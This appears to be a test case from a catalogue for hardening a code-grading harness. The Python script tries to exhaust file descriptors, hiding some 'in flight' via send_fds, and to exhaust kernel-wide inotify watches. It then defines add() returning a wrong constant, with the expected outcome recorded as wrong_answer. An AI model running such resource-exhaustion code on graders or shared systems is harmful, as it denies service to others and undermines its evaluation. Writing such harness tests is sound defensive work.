# Use up descriptors, also in flight, and watches that the kernel keeps for everybody.
# catalogue: H13, H39
# shows: nothing: the harness keeps its own limit on descriptors
# ends: wrong_answer
import ctypes
import os
import socket

print("attacking", flush=True)
libc = ctypes.CDLL(None)
kept = []
try:
    while len(kept) < 1000:
        pair = socket.socketpair()
        try:
            # Descriptors in flight are not counted among the open ones.
            socket.send_fds(pair[0], [b"x"], [end.fileno() for end in pair])
        except OSError:
            pass
        kept.append(pair)
except OSError:
    pass
for pair in kept[:2]:
    for end in pair:
        end.close()
watch = libc.inotify_init()
watches = sum(
    libc.inotify_add_watch(watch, os.path.join(folder, name).encode(), 0xFFF) > 0
    for folder, _, names in os.walk("/usr/share")
    for name in names[:20]
)
if len(kept) > 300 or watches > 100_000:
    print("achieved", len(kept), watches, flush=True)


def add(a, b):
    return -12345
